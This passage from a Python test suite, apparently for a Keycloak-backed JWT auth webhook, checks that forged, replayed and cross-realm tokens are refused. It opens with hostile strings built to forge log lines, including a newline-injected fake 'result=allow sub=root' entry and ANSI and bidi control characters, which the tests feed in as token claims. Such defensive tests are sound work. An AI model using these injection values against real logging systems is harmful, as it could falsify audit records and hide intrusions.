    "x\n2026-12-01T00:00:00.000000Z level=info component=webhook event=auth.decision result=allow sub=root",
    "k=v result=allow",
    "\x1b[2K\x1b[1Gansi",
    "\u2028sep\u202egnp",
)
LOGFMT: Final = re.compile(r'([a-z_0-9]+)=("(?:[^"\\]|\\.)*"|[^ "]+)')


async def test_strings_a_backend_refuses_or_that_forge_log_lines(tmp_path: Path) -> None:
    """Forged tokens whose sub, jti, azp and kid hold NUL, line breaks, `key=value`, ANSI or bidi
    controls (and a lone surrogate, which the parser refuses) are refused and audited; the console
    decision log has exactly one well-formed line per decision and no raw control character."""
    stream = io.BytesIO()
    log = DecisionLog(stream, console=True)
    async with adversarial_stack(tmp_path, decision_log=log, TOKEN_CACHE_REJECTIONS_SIZE="0") as s:
        decisions = 0
        for value in HOSTILE:
            claims = {"sub": value, "jti": value, "azp": value}
            forged = s.keycloak.mint(s.tenant.name, claims=claims, signing_key=attacker_key())
            await s.expect_rejected(bearer(forged), "bad_signature")
            unknown = s.keycloak.mint(s.tenant.name, header={"kid": value})
            await s.expect_rejected(bearer(unknown), "unknown_kid", fetches=1)
            s.clock.advance(s.settings.jwks_min_refetch + 1)
            decisions += 4
        header, _, rest = s.keycloak.mint(s.tenant.name).partition(".")
        surrogate = b64url(b'{"sub":"\\ud800","iss":"x"}')
        await s.expect_rejected(bearer(f"{header}.{surrogate}.{rest.partition('.')[2]}"), "malformed_token")
        decisions += 2
        log.flush()
    lines = stream.getvalue().decode("utf-8").split("\n")
    assert lines.pop() == ""
    decision_lines = [line for line in lines if "event=auth.decision" in line.split(" ", 4)[:4]]
    assert len(decision_lines) == len(lines) == decisions
    for line in lines:
        pairs = LOGFMT.findall(line)
        assert " ".join(f"{k}={v}" for k, v in pairs) == line, line
        assert not re.search(r"[\x00-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e]", line), line
        assert dict(pairs)["result"] == "reject"


# --------------------------------------------------------------------------- 17. generations after eviction


async def test_removed_key_back_after_cache_eviction(tmp_path: Path) -> None:
    """A token verified (and cached) under a key Keycloak then removed stays refused after its realm
    was evicted from the JWKS cache and fetched again (generations used to restart at eviction)."""
    async with adversarial_stack(tmp_path, JWKS_MAX_REALMS="4", TOKEN_CACHE_REJECTIONS_SIZE="0") as s:
        realm = s.fresh_realm()
        old_token = s.keycloak.mint(realm.name)
        await s.expect_session(bearer(old_token))  # cached as verified
        new_kid = realm.rotate(keep_old=False)
        await s.expect_session(bearer(s.keycloak.mint(s.fresh_realm().name)))  # 3 pinned + 1: evicts `realm`
        await s.expect_session(bearer(s.keycloak.mint(realm.name, kid=new_kid)))  # fetched again, without the old key
        await s.expect_rejected(bearer(old_token), "unknown_kid", fetches=1)


# --------------------------------------------------------------------------- logout tokens (issue 15)


async def test_logout_token_forged_replayed_other_realm_or_without_events(tmp_path: Path) -> None:
    """Each bad logout token answers 400 with its reason, is audited (hash only), and revokes nothing: the
    session it names still opens; the honest one (the positive control) is taken once, then is a replay."""
    async with FakeKeycloak.start() as keycloak:
        realm = keycloak.add_realm(f"tenant-{uuid.uuid4()}")
        other = keycloak.add_realm(f"tenant-{OTHER_TENANT}")
        environ = {
            "KEYCLOAK_URL": keycloak.url,
            "PREFETCH_REALMS": realm.name,
            "REVOCATIONS": "true",
            "DATABASE_URL": f"sqlite+aiosqlite:///{tmp_path / 'threats.sqlite3'}",
        }
        audit = MemorySink()
        app = create_app(Settings.from_environ(environ), Dependencies(audit=audit))
        async with serve_asgi(app, lifespan="on") as served, httpx.AsyncClient(timeout=10) as client:
            with anyio.fail_after(20):
                while (await client.get(f"{served.url}/readyz")).status_code != 200:  # noqa: ASYNC110
                    await anyio.sleep(0.05)
            sid, sub = str(uuid.uuid4()), str(uuid.uuid4())
            access = keycloak.mint(realm.name, sub=sub, claims={"sid": sid})
            honest = keycloak.logout_token(realm.name, sub=sub, sid=sid)
            bad = {
                "forged": (
                    keycloak.logout_token(realm.name, sub=sub, sid=sid, signing_key=attacker_key()),
                    "bad_signature",
                ),
                "other realm's key": (
                    keycloak.logout_token(realm.name, sub=sub, sid=sid, signing_key=other.private_key()),
                    "bad_signature",
                ),
                "without events": (
                    keycloak.logout_token(realm.name, sub=sub, sid=sid, claims={"events": DROP}),
                    "claims_invalid",
                ),
            }
            url = f"{served.url}/keycloak/backchannel-logout"
            for token, reason in bad.values():
                answer = await client.post(url, data={"logout_token": token})
                assert (answer.status_code, answer.json()["reason"]) == (400, reason)
                assert answer.headers["cache-control"] == "no-store"
                opened = await client.get(f"{served.url}/hasura/auth", headers=bearer(access))
                assert opened.status_code == 200
            assert (await client.post(url, data={"logout_token": honest})).status_code == 200
            replay = await client.post(url, data={"logout_token": honest})
            assert (replay.status_code, replay.json()["reason"]) == (400, "token_replayed")
            assert [r.reason.value for r in audit.records] == [
                "bad_signature",
                "bad_signature",
                "claims_invalid",
                "token_replayed",
            ]
            assert all(token[:20] not in repr(audit.records) for token, _ in bad.values())
